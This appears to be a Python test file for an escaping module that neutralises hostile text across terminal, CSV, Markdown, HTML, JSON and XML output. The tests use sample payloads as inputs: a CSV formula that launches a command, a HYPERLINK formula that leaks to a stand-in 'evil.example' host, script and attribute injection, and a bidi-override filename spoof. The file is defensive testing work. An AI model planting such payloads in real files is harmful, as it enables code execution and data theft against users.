"""Tests of the shared escaping: hostile text made inert for every medium."""

from __future__ import annotations

import json

import pytest
from hypothesis import given
from hypothesis import strategies as st

from newsdiff.render.escape import (
    csv_cell,
    html_attr,
    html_text,
    inert,
    json_dumps,
    markdown_cell,
    one_line,
    xml_attr,
    xml_text,
)


def test_inert_shows_escape_sequences_literally() -> None:
    assert inert("\x1b[31mred\x1b[0m") == "\\x1b[31mred\\x1b[0m"
    assert inert("bell\x07 nul\x00 del\x7f csi\x9b") == "bell\\x07 nul\\x00 del\\x7f csi\\x9b"


def test_inert_keeps_text_whitespace_and_scripts() -> None:
    text = "Tab\there\r\nНад Россией МКС не летает — “quoted” 500-tonne \u200f"
    assert inert(text) == text


def test_inert_defuses_bidi_overrides() -> None:
    assert inert("abc\u202edef\u2066") == "abc\\u202edef\\u2066"


@given(st.text())
def test_inert_leaves_no_control_character(text: str) -> None:
    out = one_line(text)
    assert not any(ord(c) < 0x20 or 0x7F <= ord(c) <= 0x9F for c in out)
    assert "\u202e" not in out and "\u2028" not in out


@pytest.mark.parametrize(
    "text",
    ["=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "＝1+1"],
)
def test_csv_cell_neutralises_formulas(text: str) -> None:
    cell = csv_cell(text)
    assert cell.startswith("'")
    assert "\t" not in cell and "\r" not in cell


def test_csv_cell_leaves_plain_text_alone() -> None:
    assert csv_cell("NASA said 2 + 2 = 4.") == "NASA said 2 + 2 = 4."
    assert csv_cell("line one\nline two") == "line one line two"


def test_markdown_cell_escapes_table_and_inline_syntax() -> None:
    cell = markdown_cell("a | b `c` *d* _e_ [f](g) <script> ~h~ &amp; $x$")
    assert cell == (
        "a \\| b \\`c\\` \\*d\\* \\_e\\_ \\[f\\](g) \\<script\\> \\~h\\~ \\&amp; \\$x\\$"
    )
    # Every pipe is escaped, so the cell cannot add columns to the table.
    assert cell.count("|") == cell.count("\\|")


def test_markdown_cell_stops_mentions_and_issue_links() -> None:
    assert markdown_cell("(@Rogozin) see #12 and #МКС") == (
        "(@&#8203;Rogozin) see #&#8203;12 and #МКС"
    )


def test_markdown_cell_is_one_line() -> None:
    assert "\n" not in markdown_cell("one\n\ntwo\x1b[2J")
    assert markdown_cell("one\n\ntwo\x1b[2J") == "one two\\\\x1b\\[2J"


def test_html_text_and_attr() -> None:
    assert html_text("<script>alert('x')</script> & \x1b") == (
        "&lt;script&gt;alert('x')&lt;/script&gt; &amp; \\x1b"
    )
    assert html_attr('" onmouseover="x\' \n') == "&quot; onmouseover=&quot;x&#x27;  "


def test_json_dumps_round_trips_and_is_terminal_safe() -> None:
    value = {"text": "\x1b[31m\x9b\u2028\u202e Россия “q”", "n": 1}
    out = json_dumps(value)
    assert json.loads(out) == value
    assert all(ord(c) >= 0x20 and not 0x7F <= ord(c) <= 0x9F for c in out)
    assert "Россия" in out and "\u2028" not in out and "\u202e" not in out


@pytest.mark.parametrize(
    "text",
    [
        '"=HYPERLINK(""http://evil.example/?leak"",""Click"")"',
        " =1+1",
        "\u00a0+1",
        "\u200b=1",
        "\ufeff@SUM(A1)",
        "'-1+1",
        '" \u200b＝1',
        "\u202e=1",
    ],
)
def test_csv_cell_neutralises_formulas_behind_quotes_spaces_and_invisible_prefixes(
    text: str,
) -> None:
    # A spreadsheet reads '"' as the text qualifier and skips spaces and invisible
    # characters, so it would still see the formula (issue 16, item 3).
    assert csv_cell(text).startswith("'")


def test_csv_cell_leaves_quoted_text_alone() -> None:
    assert csv_cell('"We are safe," NASA said.') == '"We are safe," NASA said.'
    assert csv_cell(" plain") == " plain"


def test_json_dumps_escapes_the_same_characters_compact_or_spaced() -> None:
    value = {"a": "x\u200e\u200f\u061c\u202e\x85y", "b": [1, 2]}
    compact, spaced, indented = (
        json_dumps(value),
        json_dumps(value, spaced=True),
        json_dumps(value, indent=2),
    )
    assert compact == '{"a":"x\\u200e\\u200f\\u061c\\u202e\\u0085y","b":[1,2]}'
    assert spaced == '{"a": "x\\u200e\\u200f\\u061c\\u202e\\u0085y", "b": [1, 2]}'
    assert json.loads(indented) == json.loads(compact) == json.loads(spaced) == value


def test_xml_escaping_shows_bidi_overrides_and_drops_forbidden_characters() -> None:
    # A raw U+202E in a JUnit name or file attribute reorders what a CI page shows
    # (issue 16, item 8).
    assert xml_attr('evil\u202etxt.exe "\n') == "evil\\u202etxt.exe &quot;&#10;"
    assert xml_text("a\x00b\x9bc <d>") == "a\ufffdb\\x9bc &lt;d&gt;"
